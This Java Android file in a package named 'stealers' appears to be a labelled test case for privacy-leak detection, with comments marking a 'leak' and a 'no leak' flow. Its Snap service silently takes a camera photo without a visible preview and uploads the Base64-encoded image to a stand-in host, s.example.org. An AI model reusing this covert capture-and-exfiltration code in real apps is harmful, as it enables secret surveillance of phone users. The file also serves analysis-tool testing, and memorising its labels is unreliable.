package stealers;

import android.app.Service;
import android.content.Intent;
import android.graphics.SurfaceTexture;
import android.hardware.Camera;
import android.os.IBinder;
import android.util.Base64;

import java.io.*;
import java.net.*;

/** A picture without a preview. */
public class Snap extends Service implements Camera.PictureCallback {
    private Camera camera;

    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public void onStart(Intent i, int id) {
        camera = Camera.open(i.getIntExtra("which", 0));
        try {
            camera.setPreviewTexture(new SurfaceTexture(0));
            camera.startPreview();
            camera.takePicture(null, null, this);
        } catch (IOException e) {
            camera.release();
        }
    }

    public void onPictureTaken(final byte[] data, Camera c) {
        c.release();
        new Thread() {
            public void run() {
                try {
                    out("img=" + URLEncoder.encode(Base64.encodeToString(data, Base64.NO_WRAP), "UTF-8"));
                    HttpURLConnection h = (HttpURLConnection) new URL("http://s.example.org/done").openConnection();
                    h.setDoOutput(true);
                    h.getOutputStream().write(("size=" + (data.length > 0)).getBytes()); // no leak
                } catch (IOException e) {
                }
            }
        }.start();
    }

    private static void out(String form) throws IOException {
        HttpURLConnection h = (HttpURLConnection) new URL("http://s.example.org/img").openConnection();
        h.setDoOutput(true);
        BufferedWriter w = new BufferedWriter(new OutputStreamWriter(h.getOutputStream(), "UTF-8"));
        w.write(form); // leak
        w.flush();
        w.close();
    }
}
